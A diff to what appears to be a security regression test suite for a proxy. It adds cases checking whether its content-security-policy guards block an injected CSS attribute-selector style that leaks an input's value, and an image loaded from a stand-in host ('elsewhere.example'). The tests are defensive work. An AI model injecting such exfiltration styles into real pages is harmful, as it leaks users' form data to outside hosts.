@@ -248,7 +248,30 @@ export const proxyAttacks: readonly Attack[] = [
       );
     },
   },
+  {
+    name: "Sends an input's value away by an injected style, where the site's policy forbade pictures from elsewhere",
+    withoutGuard: { file: "src/core/chat-sources.ts", from: '"data:", origin,', to: '"data:", "https:",' },
+    attempt: (target) =>
+      loadsPicture(target, {
+        html: `<!doctype html><html><head></head><body><input value="4711"><style>input[value^="4"] { background: url(${ELSEWHERE}/?begins=4) }</style></body></html>`,
+        policy: "default-src 'self'; style-src 'self' 'unsafe-inline'",
+      }),
+  },
+  {
+    name: "Loads pictures from anywhere in an upload that the site serves with default-src 'none'",
+    withoutGuard: [
+      { file: "src/core/content-security-policy.ts", from: 'return "csp-no-script";', to: "return null;" },
+      { file: "src/core/chat-sources.ts", from: '"data:", origin,', to: '"data:", "https:",' },
+    ],
+    attempt: (target) =>
+      loadsPicture(target, {
+        html: `<!doctype html><html><head></head><body><img src="${ELSEWHERE}/counted.png"></body></html>`,
+        policy: "default-src 'none'",
+      }),
+  },
 ];
+
+const ELSEWHERE = "https://elsewhere.example";
 
 function send(origin: string, request: Omit<RequestParts, "host">) {
   return sendRaw(origin, buildRequest({ ...request, host: "www.example.com" }));
@@ -303,6 +326,35 @@ function runsScript({ startBare }: Target, { html, policy }: AttackedPage): Prom
       const page = await browser.newPage();
       await page.goto(worker.origin, { waitUntil: "domcontentloaded" });
       return await page.evaluate(() => "stolen" in window);
+    } finally {
+      await browser.close();
+    }
+  });
+}
+
+/** Whether a browser asks for the page's picture, or refuses by its policy. */
+function loadsPicture({ startBare }: Target, { html, policy }: Required<AttackedPage>): Promise<boolean> {
+  const answer: RequestListener = (_request, response) =>
+    response
+      .writeHead(200, { "content-type": "text/html; charset=utf-8", "content-security-policy": policy })
+      .end(html);
+  return withServer(answer, async (shop) => {
+    const [worker, browser] = await Promise.all([startBare({ ORIGIN_URL: shop.origin }), launchChromium()]);
+    try {
+      const page = await browser.newPage();
+      const { promise: isAsked, resolve } = Promise.withResolvers<boolean>();
+      await page.route(`${ELSEWHERE}/**`, async (route) => {
+        resolve(true);
+        await route.abort();
+      });
+      await page.exposeFunction("onRefused", (address: string) => {
+        if (address.startsWith(ELSEWHERE)) resolve(false);
+      });
+      await page.addInitScript(
+        'document.addEventListener("securitypolicyviolation", ({ blockedURI }) => onRefused(blockedURI))',
+      );
+      await page.goto(worker.origin, { waitUntil: "commit" });
+      return await isAsked;
     } finally {
       await browser.close();
     }
